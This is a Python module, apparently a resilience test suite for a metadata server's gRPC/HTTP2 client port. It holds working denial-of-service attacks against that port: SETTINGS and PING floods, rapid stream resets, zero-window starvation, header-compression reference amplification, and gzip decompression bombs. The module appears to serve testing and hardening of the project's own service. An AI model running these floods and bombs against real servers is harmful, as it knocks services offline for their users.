"""Attacks on the client port that work in plain text and over TLS: what frames cost, and what is kept.

Know the wire alone, no node. Each goes on until its time is over, or until it is cut off.
"""

from __future__ import annotations

import asyncio
import gzip

from metasrv.grpc_api.http2 import frames as f
from metasrv.grpc_api.http2.headers import literal
from verification.attack.target import Http2Client, Target, greet

CALLS = 8_000
READ_METHOD = "/meta.MetaService/KvReadV1"
STREAM_METHOD = "/meta.MetaService/KvGetMany"
EXPORT_METHOD = "/meta.MetaService/Export"
GZIP = ("grpc-encoding", "gzip")


# ----------------------------------------------------------------------------- what frames cost


async def settings_beside_calls(target: Target) -> None:
    """8,000 open calls, and SETTINGS that name the initial window 2,730 times."""
    client = await greet(target)
    await client.open_calls(CALLS, READ_METHOD)
    payload = b"".join(f.settings({f.SETTING_INITIAL_WINDOW_SIZE: 60_000 + n})[9:] for n in range(2_730))
    while target.goes_on():
        await client.send(f.frame(f.SETTINGS, 0, 0, payload))


async def windows_of_waiting_answers(target: Target) -> None:
    """Calls whose answers wait for their own window, and WINDOW_UPDATEs for the connection's."""
    client = await greet(target, window=0)
    await client.open_calls(CALLS, EXPORT_METHOD, ends=True)
    while target.goes_on():
        await client.send(f.window_update(0, 1) * 100)


async def exports_that_wait(target: Target) -> None:
    """Exports that are asked for properly, whose answers wait for a window that never opens."""
    client = await greet(target, window=0)
    for _ in range(10):
        await client.send(b"".join(client.whole_call(EXPORT_METHOD) for _ in range(100)))
    while target.goes_on():
        await client.send(f.window_update(0, 1) * 100)


async def header_references(target: Target) -> None:
    """Blocks of one-byte references to the compression table."""
    client = await greet(target)
    extra = b"\x40\x01a\x01b"  # one field with incremental indexing: the newest entry, 62
    while target.goes_on():
        await client.send(client.call("/none", ends=True, extra=extra + b"\xbe" * 900))
        extra = b""


async def pings(target: Target) -> None:
    """As many PINGs as the connection takes."""
    client = await greet(target)
    while target.goes_on():
        await client.send(f.frame(f.PING, 0, 0, bytes(8)) * 1_000)


async def resets(target: Target) -> None:
    """Calls that are reset at once."""
    client = await greet(target)
    while target.goes_on():
        piece = b""
        for _ in range(100):
            stream_id = client.next_id()
            piece += target.request(stream_id, READ_METHOD) + f.rst_stream(stream_id, f.ErrorCode.CANCEL)
        await client.send(piece)


# ----------------------------------------------------------------------------- what is kept


def bomb() -> bytes:
    """A compressed message of 15 KB that becomes 15 MB."""
    data = gzip.compress(bytes(15 * 1024 * 1024))
    return b"\x01" + len(data).to_bytes(4, "big") + data


def data_frames(stream_id: int, message: bytes) -> list[bytes]:
    pieces = (message[start : start + 16_384] for start in range(0, len(message), 16_384))
    return [f.frame(f.DATA, 0, stream_id, piece) for piece in pieces]


async def bombs(target: Target) -> None:
    """Compressed messages of 15 KB that become 15 MB each."""
    message = bomb()
    client = await greet(target)
    while target.goes_on():
        stream_id = client.next_id()
        body = b"".join(data_frames(stream_id, message)) + f.frame(f.DATA, f.END_STREAM, stream_id)
        await client.send(target.request(stream_id, READ_METHOD, GZIP) + body)
        await asyncio.sleep(0.01)


async def bombs_that_nobody_takes(target: Target) -> None:
    """The same on streams of requests."""
    client = await greet(target, window=0)
    stream_id = client.next_id()
    await client.send(target.request(stream_id, STREAM_METHOD, GZIP))
    frames = data_frames(stream_id, bomb())
    while target.goes_on():
        for frame in frames:
            await client.send(frame)
        await asyncio.sleep(0.01)


async def metadata_of_waiting_calls(target: Target) -> None:
    """Calls without a body, each with 60 KB of metadata by reference."""
    client = await greet(target)
    extra = b"\x40\x01a" + literal("", "v" * 3_900)[2:]
    while target.goes_on():
        await client.send(client.call(READ_METHOD, extra=extra + b"\xbe" * 15))
        extra = b""


async def refusals_that_nobody_reads(target: Target) -> None:
    """Requests for methods that do not exist; the answers stay in the node's buffers."""
    clients: list[Http2Client] = [await greet(target, reads=False) for _ in range(50)]
    while target.goes_on():
        for client in clients:
            client.writer.write(b"".join(client.call("/none" + "n" * 60, ends=True) for _ in range(50)))
        await asyncio.sleep(0.005)
        if any(client.writer.is_closing() for client in clients):
            raise ConnectionResetError
